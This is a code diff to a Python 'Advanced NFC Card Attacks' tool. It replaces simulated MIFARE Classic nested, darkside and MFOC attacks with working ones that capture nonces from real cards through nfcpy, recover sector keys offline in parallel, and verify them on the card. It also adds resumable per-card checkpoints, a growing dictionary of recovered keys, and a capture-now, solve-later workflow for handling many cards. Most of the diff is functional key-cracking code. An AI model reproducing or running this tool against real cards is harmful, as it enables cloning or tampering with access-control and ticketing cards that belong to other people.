@@ -8,130 +8,80 @@ import time
 import random
 import logging
 import argparse
-from colorama import init, Fore, Style
-
-try:
-    import nfc
-    from nfc.clf import RemoteTarget
-except ImportError:
-    print(f"{Fore.RED}Error: Required module 'nfcpy' not found.{Style.RESET_ALL}")
-    print("Please install required dependencies: pip install -r requirements.txt")
-    sys.exit(1)
-
-# Initialize colorama
-init()
-
-# Configure logging
-logging.basicConfig(level=logging.INFO,
-                    format='%(asctime)s - %(levelname)s - %(message)s',
-                    handlers=[
-                        logging.FileHandler("advanced_attacks.log"),
-                        logging.StreamHandler()
-                    ])
+from collections import deque
+
+from lazy import LazyImport, require
+from crypto1 import DEFAULT_KEY_RANGE, NestedTrace
+from checkpoint import DEFAULT_CHECKPOINT_PATH, CheckpointStore
+from key_store import DEFAULT_KEYS, DEFAULT_STORE_PATH, KeyStore
+from key_search import resolve_workers, search_key_space, search_trace_sets, solve_shared, solver_pool
+from nonce_store import DEFAULT_NONCE_PATH, NonceWriter, read_traces
+from metrics import DEVICE_COMMANDS, MISS, OK, PHASE_METRIC, TAG_COMMANDS, Metrics, instrument
+from log_config import add_logging_arguments, logging_from_args
+from progress import ReaderProgress, add_progress_arguments, progress_from_args
+from nfc_utils import MifareUtils, tag_geometry
+from simulator import add_simulation_arguments, device_from_args
+from clock import SYSTEM_CLOCK, clock_for
+
+# Loaded on first use: nfcpy only for real readers (see require()), the
+# console helpers only when something is printed
+Fore = LazyImport('colorama', 'Fore')
+Style = LazyImport('colorama', 'Style')
+
+# Logging is configured by main() (see log_config)
 logger = logging.getLogger(__name__)
 
-# Simulation classes for when no hardware is available
-class SimulatedTag:
-    """A simulated NFC tag for testing without hardware"""
-    def __init__(self, tag_type="MIFARE Classic 1K"):
-        self.product = tag_type
-        self.identifier = bytes([random.randint(0, 255) for _ in range(4)])
-        self.size = 1024 if "1K" in tag_type else 4096
-        self._sectors = {}
-        self._keys = {}
-
-        # Initialize with some default data
-        for sector in range(16):  # 16 sectors for MIFARE Classic 1K
-            # Set default keys for some sectors
-            if sector < 5:
-                self._keys[sector] = {
-                    'A': bytes.fromhex("FFFFFFFFFFFF"),
-                    'B': bytes.fromhex("FFFFFFFFFFFF")
-                }
-            elif sector < 10:
-                self._keys[sector] = {
-                    'A': bytes.fromhex("A0A1A2A3A4A5"),
-                    'B': bytes.fromhex("B0B1B2B3B4B5")
-                }
-            else:
-                self._keys[sector] = {
-                    'A': None,
-                    'B': None
-                }
-
-            # Create some random data for each sector
-            self._sectors[sector] = [
-                bytes([random.randint(0, 255) for _ in range(16)]) for _ in range(4)
-            ]
-
-            # First block of first sector contains UID
-            if sector == 0:
-                self._sectors[0][0] = self.identifier + bytes([random.randint(0, 255) for _ in range(12)])
-
-    def authenticate(self, sector, key, key_type_a=True):
-        """Simulate authentication with a sector"""
-        key_type = 'A' if key_type_a else 'B'
-
-        # If we don't have a key for this sector, authentication always fails
-        if sector not in self._keys or self._keys[sector][key_type] is None:
-            return False
-
-        # If the key matches, authentication succeeds
-        return key == self._keys[sector][key_type]
-
-    def read(self, block):
-        """Simulate reading a block"""
-        sector = block // 4
-        block_in_sector = block % 4
-
-        # If we don't have data for this sector, reading fails
-        if sector not in self._sectors:
-            raise Exception("Failed to read block")
-
-        return self._sectors[sector][block_in_sector]
-
-class SimulatedDevice:
-    """A simulated NFC reader for testing without hardware"""
-    def __init__(self):
-        self.name = "Simulated NFC Reader"
-
-    def sense(self, target_type):
-        """Simulate sensing a card"""
-        # 80% chance of finding a card
-        if random.random() < 0.8:
-            return "Simulated Card"
-        return None
-
-    def close(self):
-        """Simulate closing the device"""
-        pass
-
 class MifareClassicAttacks:
     """Implementation of various attacks against MIFARE Classic cards"""
 
-    def __init__(self, device):
+    def __init__(self, device, keys=None, key_range=DEFAULT_KEY_RANGE, workers=1, key_store=None,
+                 checkpoints=None, metrics=None):
         self.device = device
-
-    def nested_attack(self, tag, known_key, known_sector, target_sector):
+        # Recovered keys are written back to the persistent dictionary
+        self.key_store = key_store
+        # MFOC progress per card UID, so an interrupted attack can resume
+        self.checkpoints = checkpoints
+        # Phase timings (None disables them)
+        self.metrics = metrics
+        # Capture counters, shown by the run's progress display if it has one
+        self.progress = ReaderProgress()
+        # Candidate key space searched offline once nonces are captured
+        if keys is None:
+            keys = key_store.snapshot() if key_store is not None else DEFAULT_KEYS
+        self.keys = keys
+        self.key_range = key_range
+        self.workers = workers
+
+    def _remember(self, key):
+        """Add a recovered key to the persistent dictionary"""
+        if self.key_store is not None:
+            self.key_store.add(key)
+
+    def _timed(self, phase, func, *args, **kwargs):
+        """Run one attack phase, timed when metrics are enabled"""
+        if self.metrics is None:
+            return func(*args, **kwargs)
+        return self.metrics.call(PHASE_METRIC, {'phase': phase}, func, *args, **kwargs)
+
+    def _recover(self, traces):
+        """Filter the candidate key space against the captured traces"""
+        return self._timed('key_recovery', search_key_space, traces, self.keys, self.key_range, self.workers)
+
+    def nested_attack(self, tag, known_key, known_sector, target_sector, key_type_a=True):
         """
         Perform a nested authentication attack
 
-        This attack exploits a weakness in the CRYPTO1 cipher where the
-        random number generator used for authentication can be predicted
-        under certain conditions.
+        This attack exploits a weakness in the CRYPTO1 cipher: after one
+        successful authentication, the nonce of a nested authentication is
+        sent encrypted and leaks 32 keystream bits of the target key, which
+        are then used to filter the candidate key space offline.
         """
+        key_type = 'A' if key_type_a else 'B'
         print(f"\n{Fore.GREEN}=== Nested Attack ==={Style.RESET_ALL}")
-        print(f"From sector {known_sector} to sector {target_sector}")
+        print(f"From sector {known_sector} to sector {target_sector} (key {key_type})")
         print(f"Using known key: {known_key.hex().upper()}")
 
-        # In a real implementation, this would:
-        # 1. Authenticate with the known key
-        # 2. Capture the nonce from a subsequent authentication attempt
-        # 3. Analyze the nonce to recover the key for the target sector
-
-        # Simulate the attack process
         print(f"{Fore.CYAN}Step 1: Authenticating with known key...{Style.RESET_ALL}")
-        time.sleep(1)
 
         try:
             # Authenticate with the known key
@@ -140,31 +90,29 @@ class MifareClassicAttacks:
                 return None
 
             print(f"{Fore.CYAN}Step 2: Capturing authentication data...{Style.RESET_ALL}")
-            time.sleep(1.5)
+            traces = self._timed('nested_capture', MifareUtils.capture_nested,
+                                 tag, known_key, known_sector, target_sector, key_type_a)
+            if not traces:
+                print(f"{Fore.RED}Tag does not support nested nonce capture.{Style.RESET_ALL}")
+                return None
 
             print(f"{Fore.CYAN}Step 3: Analyzing nonces...{Style.RESET_ALL}")
-            time.sleep(2)
-
-            # In a real implementation, this would be the recovered key
-            # Here we're just simulating success or failure
-            success = random.random() > 0.3
+            cracked_key = self._recover(traces)
 
-            if success:
-                # Generate a random key as our "cracked" key
-                cracked_key = bytes([random.randint(0, 255) for _ in range(6)])
+            if cracked_key:
                 print(f"{Fore.GREEN}Attack successful! Found key: {cracked_key.hex().upper()}{Style.RESET_ALL}")
 
                 # Verify the key works
                 print(f"{Fore.CYAN}Verifying key...{Style.RESET_ALL}")
-                time.sleep(1)
+                if not tag.authenticate(target_sector, cracked_key, key_type_a):
+                    print(f"{Fore.RED}Key verification failed!{Style.RESET_ALL}")
+                    return None
 
-                # In a real implementation, we would actually try to authenticate
-                # Here we're just simulating success
                 print(f"{Fore.GREEN}Key verified!{Style.RESET_ALL}")
-
+                self._remember(cracked_key)
                 return cracked_key
             else:
-                print(f"{Fore.RED}Attack failed. Could not recover key.{Style.RESET_ALL}")
+                print(f"{Fore.RED}Attack failed. Key is outside the candidate key space.{Style.RESET_ALL}")
                 return None
 
         except Exception as e:
@@ -172,109 +120,328 @@ class MifareClassicAttacks:
             print(f"{Fore.RED}Attack failed with error: {e}{Style.RESET_ALL}")
             return None
 
-    def darkside_attack(self, tag):
+    def darkside_attack(self, tag, sector=0, key_type_a=True):
         """
         Perform a darkside attack on MIFARE Classic
 
-        This attack exploits a weakness in the CRYPTO1 cipher where
-        certain responses can leak information about the key.
+        This attack exploits a weakness in the CRYPTO1 cipher where the
+        encrypted NACK sent after a failed authentication leaks four
+        keystream bits of the key.
         """
         print(f"\n{Fore.GREEN}=== Darkside Attack ==={Style.RESET_ALL}")
         print("This attack targets a weakness in the CRYPTO1 cipher")
 
-        # Simulate the attack process
         print(f"{Fore.CYAN}Sending specially crafted authentication attempts...{Style.RESET_ALL}")
-        time.sleep(2)
+        try:
+            traces = self._timed('darkside_capture', MifareUtils.capture_darkside, tag, sector, key_type_a)
+        except Exception as e:
+            logger.error(f"Error during darkside attack: {e}")
+            print(f"{Fore.RED}Attack failed with error: {e}{Style.RESET_ALL}")
+            return None
 
-        # In a real implementation, this would involve sending specific
-        # authentication commands and analyzing the responses
+        if not traces:
+            print(f"{Fore.RED}Tag does not support darkside capture.{Style.RESET_ALL}")
+            return None
 
         print(f"{Fore.CYAN}Collecting and analyzing responses...{Style.RESET_ALL}")
-        time.sleep(2.5)
+        cracked_key = self._recover(traces)
 
-        # Simulate success or failure
-        success = random.random() > 0.4
-
-        if success:
-            # Generate a random key as our "cracked" key
-            cracked_key = bytes([random.randint(0, 255) for _ in range(6)])
+        if cracked_key:
             print(f"{Fore.GREEN}Attack successful! Found key: {cracked_key.hex().upper()}{Style.RESET_ALL}")
+            self._remember(cracked_key)
             return cracked_key
         else:
             print(f"{Fore.RED}Attack failed. Could not recover key.{Style.RESET_ALL}")
             return None
 
+    def capture_nonces(self, tag, writer, known_key=None, known_sector=0):
+        """
+        Capture the nonces of a card for offline recovery, without solving them
+
+        With a known key that opens `known_sector`, nested traces are stored
+        for every other sector and key type; without one, darkside traces of
+        sector 0 key A are stored, whose key then unlocks a nested capture
+        on a later visit. Solving is left to the `solve` command, so the
+        reader is free for the next card right away. Returns the number of
+        sector/key type targets captured.
+        """
+        print(f"\n{Fore.GREEN}=== Nonce Capture ==={Style.RESET_ALL}")
+        num_sectors = tag_geometry(tag).num_sectors
+
+        if known_key is None or not tag.authenticate(known_sector, known_key, True):
+            print(f"{Fore.CYAN}No working key - capturing darkside traces...{Style.RESET_ALL}")
+            traces = self._timed('darkside_capture', MifareUtils.capture_darkside, tag)
+            if not traces:
+                print(f"{Fore.RED}Tag does not support darkside capture.{Style.RESET_ALL}")
+                return 0
+            writer.add(0, True, traces)
+            return 1
+
+        captured = 0
+        targets = [(sector, key_type_a) for sector in range(num_sectors) for key_type_a in (True, False)
+                   if not (sector == known_sector and key_type_a)]
+        progress = self.progress
+        progress.start_card(getattr(tag, 'identifier', None), num_sectors)
+        try:
+            for sector, key_type_a in targets:
+                progress.sector = sector
+                try:
+                    traces = self._timed('nested_capture', MifareUtils.capture_nested,
+                                         tag, known_key, known_sector, sector, key_type_a)
+                except Exception as e:
+                    logger.error(f"Nonce capture failed for sector {sector}: {e}")
+                    continue
+                if traces is None:
+                    print(f"{Fore.RED}Tag does not support nested nonce capture.{Style.RESET_ALL}")
+                    break
+                writer.add(sector, key_type_a, traces)
+                captured += 1
+        finally:
+            progress.finish_card(captured == len(targets))
+        return captured
+
     def mfoc_attack(self, tag):
         """
-        Simulate an MFOC (MIFARE Classic Offline Cracker) attack
+        Perform an MFOC (MIFARE Classic Offline Cracker) attack
 
         This attack combines various techniques to recover keys for a MIFARE Classic card.
+        Work is split in two stages: nonce capture, which needs the reader,
+        runs on this thread while offline key recovery runs in a pool of
+        worker processes. Every recovered key is first tried directly on the
+        remaining sectors (cards often reuse keys) and then becomes a pivot
+        for later nested authentications.
+
+        With a checkpoint store, recovered keys and captured nonces are saved
+        as the attack goes; presenting an interrupted card again resumes with
+        them instead of starting over.
         """
         print(f"\n{Fore.GREEN}=== MFOC Attack ==={Style.RESET_ALL}")
         print("This attack combines multiple techniques to recover keys")
 
         # Determine card size
-        num_sectors = 16  # Default for MIFARE Classic 1K
-        if hasattr(tag, 'size'):
-            if tag.size > 1024:
-                num_sectors = 40  # MIFARE Classic 4K
+        num_sectors = tag_geometry(tag).num_sectors
 
         print(f"Card has {num_sectors} sectors")
 
-        # First, try to find a key using the darkside attack
-        print(f"{Fore.CYAN}Attempting to find an initial key...{Style.RESET_ALL}")
-        initial_key = self.darkside_attack(tag)
+        uid = getattr(tag, 'identifier', None)
+        checkpoint = None
+        if self.checkpoints is not None and uid:
+            checkpoint = self.checkpoints.get(uid, getattr(tag, 'product', None))
 
-        if not initial_key:
-            print(f"{Fore.RED}Could not find an initial key. Attack failed.{Style.RESET_ALL}")
-            return {}
+        # Keep track of the sectors we've cracked
+        cracked_sectors = {sector: {'key_a': None, 'key_b': None} for sector in range(num_sectors)}
+
+        # Known (sector, key, key_type_a) triples usable for nested authentication
+        pivots = []
+
+        if checkpoint:
+            for sector in range(num_sectors):
+                for key_type_a in (True, False):
+                    key = checkpoint.key(sector, 'A' if key_type_a else 'B')
+                    if key:
+                        cracked_sectors[sector]['key_a' if key_type_a else 'key_b'] = key
+                        pivots.append((sector, key, key_type_a))
+            print(f"{Fore.CYAN}Resuming an interrupted attack: {len(pivots)} keys already "
+                  f"recovered{Style.RESET_ALL}")
+
+        if not pivots:
+            # First, try to find a key using the darkside attack
+            print(f"{Fore.CYAN}Attempting to find an initial key...{Style.RESET_ALL}")
+            initial_key = self.darkside_attack(tag)
+
+            if not initial_key:
+                print(f"{Fore.RED}Could not find an initial key. Attack failed.{Style.RESET_ALL}")
+                return {}
+
+            cracked_sectors[0]['key_a'] = initial_key
+            pivots.append((0, initial_key, True))
+            if checkpoint is not None:
+                checkpoint.set_key(0, 'A', initial_key)
+                self.checkpoints.save()
 
         # Now use the nested attack to find the remaining keys
         print(f"{Fore.CYAN}Using nested attack to find remaining keys...{Style.RESET_ALL}")
 
-        # Keep track of the sectors we've cracked
-        cracked_sectors = {}
-        initial_sector = 0  # The sector we found the key for
-        cracked_sectors[initial_sector] = {'key_a': initial_key, 'key_b': None}
-
-        # Try to crack the remaining sectors
-        for sector in range(num_sectors):
-            if sector in cracked_sectors:
-                continue
-
-            print(f"\n{Fore.CYAN}Attempting to crack sector {sector}...{Style.RESET_ALL}")
-
-            # Use a known key from a cracked sector
-            known_sector = list(cracked_sectors.keys())[0]
-            known_key = cracked_sectors[known_sector]['key_a']
-
-            # Try to find key A
-            key_a = self.nested_attack(tag, known_key, known_sector, sector)
-            if key_a:
-                if sector not in cracked_sectors:
-                    cracked_sectors[sector] = {'key_a': None, 'key_b': None}
-                cracked_sectors[sector]['key_a'] = key_a
-
-            # Try to find key B
-            key_b = self.nested_attack(tag, known_key, known_sector, sector)
-            if key_b:
-                if sector not in cracked_sectors:
-                    cracked_sectors[sector] = {'key_a': None, 'key_b': None}
-                cracked_sectors[sector]['key_b'] = key_b
-
-            # If we've cracked enough sectors, stop
-            if len(cracked_sectors) > num_sectors / 2:
-                break
+        # (sector, key_type_a) targets still waiting for nonce capture
+        targets = deque((sector, key_type_a)
+                        for sector in range(num_sectors)
+                        for key_type_a in (True, False)
+                        if not cracked_sectors[sector]['key_a' if key_type_a else 'key_b'])
+        # Targets whose nonces could not be captured are left for a later attempt
+        interrupted = False
+
+        from concurrent.futures import FIRST_COMPLETED, wait
+
+        workers = resolve_workers(self.workers)
+        in_flight = {}
+
+        def record(sector, key_type_a, key):
+            cracked_sectors[sector]['key_a' if key_type_a else 'key_b'] = key
+            pivots.append((sector, key, key_type_a))
+            if checkpoint is not None:
+                checkpoint.set_key(sector, 'A' if key_type_a else 'B', key)
+                self.checkpoints.save()
+            print(f"{Fore.GREEN}Sector {sector} key {'A' if key_type_a else 'B'}: "
+                  f"{key.hex().upper()}{Style.RESET_ALL}")
+
+        def is_cracked(sector, key_type_a):
+            return cracked_sectors[sector]['key_a' if key_type_a else 'key_b'] is not None
+
+        def try_known_keys(sector, key_type_a):
+            tried = set()
+            for _, key, _ in reversed(pivots):
+                if key in tried:
+                    continue
+                tried.add(key)
+                if tag.authenticate(sector, key, key_type_a):
+                    record(sector, key_type_a, key)
+                    return True
+            return False
+
+        try:
+            with solver_pool(workers, self.keys, self.key_range) as pool:
+                while targets or in_flight:
+                    # Stage 1: capture nonces for the next target while the
+                    # workers are busy, keeping a small backlog per worker
+                    if targets and len(in_flight) < workers * 2:
+                        sector, key_type_a = targets.popleft()
+                        key_type = 'A' if key_type_a else 'B'
+                        try:
+                            if is_cracked(sector, key_type_a) or try_known_keys(sector, key_type_a):
+                                continue
+
+                            # Nonces captured before an interruption are solved as they are
+                            traces = None
+                            if checkpoint is not None:
+                                traces = [NestedTrace(*trace) for trace in checkpoint.traces(sector, key_type)]
+                            if not traces:
+                                pivot_sector, pivot_key, pivot_type_a = pivots[-1]
+                                traces = self._timed(
+                                    'nested_capture', MifareUtils.capture_nested,
+                                    tag, pivot_key, pivot_sector, sector, key_type_a,
+                                    known_key_type_a=pivot_type_a)
+                                if traces and checkpoint is not None:
+                                    checkpoint.set_traces(sector, key_type, traces)
+                                    self.checkpoints.save()
+                        except Exception as e:
+                            logger.error(f"Nonce capture failed for sector {sector}: {e}")
+                            interrupted = True
+                            continue
+
+                        if traces is None:
+                            print(f"{Fore.RED}Tag does not support nested nonce capture.{Style.RESET_ALL}")
+                            targets.clear()
+                            continue
+
+                        future = pool.submit(_timed_solve, traces)
+                        in_flight[future] = (sector, key_type_a)
+                        continue
+
+                    # Stage 2: collect recovered keys. Only reached when there
+                    # is nothing left to capture or no capture slot is free, so
+                    # block rather than spin on the reader thread.
+                    done, _ = wait(in_flight, return_when=FIRST_COMPLETED)
+                    for future in done:
+                        sector, key_type_a = in_flight.pop(future)
+                        key, seconds = future.result()
+                        if self.metrics is not None:
+                            # Worker run time, without the wait in the pool's queue
+                            self.metrics.observe(PHASE_METRIC, seconds, phase='key_recovery',
+                                                 outcome=OK if key else MISS)
+                        if is_cracked(sector, key_type_a):
+                            continue
+                        try:
+                            verified = key and tag.authenticate(sector, key, key_type_a)
+                        except Exception as e:
+                            logger.error(f"Key verification failed for sector {sector}: {e}")
+                            interrupted = True
+                            continue
+                        if verified:
+                            record(sector, key_type_a, key)
+                        else:
+                            print(f"{Fore.RED}Could not recover sector {sector} key "
+                                  f"{'A' if key_type_a else 'B'}{Style.RESET_ALL}")
+        except BaseException:
+            interrupted = True
+            raise
+        finally:
+            if checkpoint is not None:
+                if interrupted:
+                    self.checkpoints.save()
+                else:
+                    self.checkpoints.discard(uid)
+
+        if interrupted and checkpoint is not None:
+            print(f"{Fore.YELLOW}Attack interrupted; present the card again to continue.{Style.RESET_ALL}")
+
+        cracked_sectors = {sector: keys for sector, keys in cracked_sectors.items()
+                           if keys['key_a'] or keys['key_b']}
+
+        if self.key_store is not None:
+            found_keys = {key for keys in cracked_sectors.values() for key in keys.values() if key}
+            self.key_store.record_card(found_keys, getattr(tag, 'product', None),
+                                       getattr(tag, 'identifier', None))
 
         print(f"\n{Fore.GREEN}Attack completed. Cracked {len(cracked_sectors)} out of {num_sectors} sectors.{Style.RESET_ALL}")
 
         return cracked_sectors
 
+def _timed_solve(traces):
+    """solve_shared() in a worker process, returning the key and the seconds it took"""
+    start = time.perf_counter()
+    key = solve_shared(traces)
+    return key, time.perf_counter() - start
+
+
+def solve_nonce_files(paths, keys, key_range=DEFAULT_KEY_RANGE, workers=1):
+    """
+    Recover every key in one or more nonce files, without a reader
+
+    All targets go through the solver together (see search_trace_sets), so
+    the candidate keys are streamed once per worker rather than once per
+    captured sector. Returns {Target: key or None}.
+    """
+    trace_sets = {}
+    for path in paths:
+        for target, traces in read_traces(path).items():
+            trace_sets.setdefault(target, []).extend(traces)
+    return search_trace_sets(trace_sets, keys, key_range, workers)
+
+
+def solve_command(args):
+    """The `solve` subcommand: recover keys from stored nonce files"""
+    key_store = KeyStore(args.key_store)
+    key_store.add_many(DEFAULT_KEYS)
+
+    start = time.perf_counter()
+    try:
+        found = solve_nonce_files(args.nonce_files, key_store.snapshot(), (0, 1 << args.range_bits), args.workers)
+    except (OSError, ValueError) as e:
+        logger.error(f"Error: {e}")
+        print(f"{Fore.RED}Error: {e}{Style.RESET_ALL}")
+        return 1
+    elapsed = time.perf_counter() - start
+
+    for target, key in found.items():
+        label = f"Card {target.uid:08X} sector {target.sector} key {target.key_type}"
+        if key:
+            print(f"{label}: {Fore.GREEN}{key.hex().upper()}{Style.RESET_ALL}")
+            key_store.add(key)
+        else:
+            print(f"{label}: {Fore.RED}not found{Style.RESET_ALL}")
+
+    recovered = sum(1 for key in found.values() if key)
+    print(f"\nRecovered {recovered} of {len(found)} keys in {elapsed:.1f}s")
+    key_store.save()
+    return 0 if recovered == len(found) else 1
+
+
 class UltralightAttacks:
     """Implementation of attacks against MIFARE Ultralight cards"""
 
-    def __init__(self, device):
+    def __init__(self, device, clock=None):
         self.device = device
+        self.clock = clock or SYSTEM_CLOCK
 
     def read_card(self, tag):
         """Read all pages from a MIFARE Ultralight card"""
@@ -321,7 +488,7 @@ class UltralightAttacks:
         # to bypass the authentication
 
         print(f"{Fore.CYAN}Attempting authentication bypass...{Style.RESET_ALL}")
-        time.sleep(2)
+        self.clock.sleep(2)
 
         # Simulate success or failure
         success = random.random() > 0.5
@@ -335,35 +502,79 @@ class UltralightAttacks:
 
 def main():
     parser = argparse.ArgumentParser(description='Advanced NFC Card Attacks')
-    parser.add_argument('-a', '--attack', choices=['nested', 'darkside', 'mfoc', 'ultralight'],
-                        help='Attack type to perform')
+    parser.add_argument('-a', '--attack', choices=['nested', 'darkside', 'mfoc', 'capture', 'ultralight'],
+                        help='Attack type to perform (capture only stores nonces for the solve command)')
     parser.add_argument('-s', '--sector', type=int, default=0,
                         help='Target sector for nested attack')
     parser.add_argument('-k', '--known-sector', type=int, default=0,
                         help='Known sector with known key for nested attack')
+    parser.add_argument('--known-key', type=bytes.fromhex, default=bytes.fromhex("FFFFFFFFFFFF"),
+                        help='Known key (hex) of the known sector for nested attack and capture '
+                             '(default: FFFFFFFFFFFF)')
+    parser.add_argument('--nonces', default=DEFAULT_NONCE_PATH, metavar='FILE',
+                        help=f'Nonce file the capture attack appends to (default: {DEFAULT_NONCE_PATH})')
+    parser.add_argument('--key-store', default=DEFAULT_STORE_PATH,
+                        help=f'Persistent key dictionary, used as candidate keys and updated with '
+                             f'recovered keys (default: {DEFAULT_STORE_PATH})')
+    parser.add_argument('-w', '--workers', type=int, default=1,
+                        help='Worker processes for offline key recovery (0 = one per CPU)')
+    parser.add_argument('--range-bits', type=int, default=DEFAULT_KEY_RANGE[1].bit_length() - 1,
+                        help='Offline key recovery also searches every key below 2^N (default: %(default)s)')
+    parser.add_argument('--checkpoints', default=DEFAULT_CHECKPOINT_PATH, metavar='FILE',
+                        help=f'MFOC progress on interrupted cards, resumed when the card is presented '
+                             f'again (default: {DEFAULT_CHECKPOINT_PATH}; empty to disable)')
+    parser.add_argument('--metrics', metavar='FILE',
+                        help='Time reader commands and attack phases and save them to FILE '
+                             '(Prometheus text for .prom files, JSON otherwise)')
     parser.add_argument('-v', '--verbose', action='store_true',
                         help='Enable verbose output')
     parser.add_argument('--simulation', action='store_true',
                         help='Run in simulation mode (no hardware required)')
+    add_simulation_arguments(parser)
+    add_logging_arguments(parser, "advanced_attacks.log")
+    add_progress_arguments(parser)
+
+    subcommands = parser.add_subparsers(dest='command')
+    solve = subcommands.add_parser('solve', help='Recover keys from captured nonce files (no reader needed)')
+    solve.add_argument('nonce_files', nargs='+', metavar='FILE', help='Nonce files written by --attack capture')
+    solve.add_argument('--key-store', default=DEFAULT_STORE_PATH,
+                       help=f'Candidate keys, updated with the recovered keys (default: {DEFAULT_STORE_PATH})')
+    solve.add_argument('-w', '--workers', type=int, default=1,
+                       help='Worker processes (0 = one per CPU)')
+    solve.add_argument('--range-bits', type=int, default=DEFAULT_KEY_RANGE[1].bit_length() - 1,
+                       help='Also search every key below 2^N (default: %(default)s)')
 
     args = parser.parse_args()
 
+    # Initialize colorama
+    import colorama
+    colorama.init()
+
+    logging_from_args(args)
+
     if args.verbose:
         logger.setLevel(logging.DEBUG)
 
+    if args.command == 'solve':
+        return solve_command(args)
+
     print(f"\n{Fore.GREEN}=== Advanced NFC Attacks Tool ==={Style.RESET_ALL}")
     print(f"{Fore.CYAN}Initializing...{Style.RESET_ALL}")
 
+    # Simulated readers run on virtual time
+    clock = clock_for(args.simulation)
+    metrics = Metrics(clock if args.simulation else None) if args.metrics else None
+
     try:
         # Connect to NFC reader
         if args.simulation:
             print(f"Running in simulation mode - using simulated NFC reader")
-            device = SimulatedDevice()
+            device = instrument(device_from_args(args, clock=clock), metrics, DEVICE_COMMANDS)
             print(f"Connected to {device.name}")
 
             # Simulate finding a card
             print(f"\n{Fore.CYAN}Waiting for NFC card...{Style.RESET_ALL}")
-            time.sleep(1)
+            clock.sleep(1)
             target = device.sense(None)
 
             if not target:
@@ -372,8 +583,8 @@ def main():
 
             print(f"Card detected: Simulated Card")
 
-            # Create a simulated tag
-            tag = SimulatedTag()
+            # Activate the simulated tag
+            tag = instrument(device.activate(target), metrics, TAG_COMMANDS)
             print(f"Tag type: {tag.product}")
 
             # Determine the card type
@@ -381,12 +592,13 @@ def main():
 
             print(f"Card type: {card_type}")
         else:
-            device = nfc.ContactlessFrontend('usb')
+            nfc = require('nfc', 'nfcpy')
+            device = instrument(nfc.ContactlessFrontend('usb'), metrics, DEVICE_COMMANDS)
             print(f"Connected to {device}")
 
             # Wait for a card
             print(f"\n{Fore.CYAN}Waiting for NFC card...{Style.RESET_ALL}")
-            target = device.sense(RemoteTarget('106A'))  # ISO14443A (MIFARE)
+            target = device.sense(nfc.clf.RemoteTarget('106A'))  # ISO14443A (MIFARE)
 
             if not target:
                 print(f"{Fore.RED}No card detected. Exiting.{Style.RESET_ALL}")
@@ -395,7 +607,7 @@ def main():
             print(f"Card detected: {target}")
 
             # Activate the tag
-            tag = nfc.tag.activate(device, target)
+            tag = instrument(nfc.tag.activate(device, target), metrics, TAG_COMMANDS)
             print(f"Tag type: {tag}")
 
             # Determine the card type
@@ -407,21 +619,39 @@ def main():
 
         # Perform the selected attack
         if 'MIFARE Classic' in card_type:
-            classic_attacks = MifareClassicAttacks(device)
+            key_store = KeyStore(args.key_store)
+            key_store.add_many(DEFAULT_KEYS)
+            checkpoints = CheckpointStore(args.checkpoints) if args.checkpoints else None
+            classic_attacks = MifareClassicAttacks(device, key_range=(0, 1 << args.range_bits),
+                                                   workers=args.workers, key_store=key_store,
+                                                   checkpoints=checkpoints, metrics=metrics)
 
             if args.attack == 'nested':
                 # For nested attack, we need a known key
-                known_key = bytes.fromhex("FFFFFFFFFFFF")  # Default key
-                classic_attacks.nested_attack(tag, known_key, args.known_sector, args.sector)
+                classic_attacks.nested_attack(tag, args.known_key, args.known_sector, args.sector)
             elif args.attack == 'darkside':
                 classic_attacks.darkside_attack(tag)
             elif args.attack == 'mfoc':
                 classic_attacks.mfoc_attack(tag)
+            elif args.attack == 'capture':
+                # Only the capture loop reports progress; the other attacks print as they go
+                display = progress_from_args(args)
+                display.track('reader', classic_attacks.progress)
+                display.start()
+                try:
+                    with NonceWriter(args.nonces) as writer:
+                        captured = classic_attacks.capture_nonces(tag, writer, args.known_key, args.known_sector)
+                finally:
+                    display.stop()
+                print(f"Stored nonces of {captured} targets in {args.nonces}; "
+                      f"recover the keys with: {os.path.basename(sys.argv[0])} solve {args.nonces}")
             else:
                 print(f"{Fore.YELLOW}No attack specified. Use --attack to specify an attack.{Style.RESET_ALL}")
 
+            key_store.save()
+
         elif 'MIFARE Ultralight' in card_type:
-            ultralight_attacks = UltralightAttacks(device)
+            ultralight_attacks = UltralightAttacks(device, clock=clock)
 
             if args.attack == 'ultralight':
                 ultralight_attacks.read_card(tag)
@@ -441,6 +671,8 @@ def main():
             device.close()
         except:
             pass
+        if metrics is not None:
+            metrics.write(args.metrics)
 
 if __name__ == "__main__":
-    main()
\ No newline at end of file
+    sys.exit(main())
\ No newline at end of file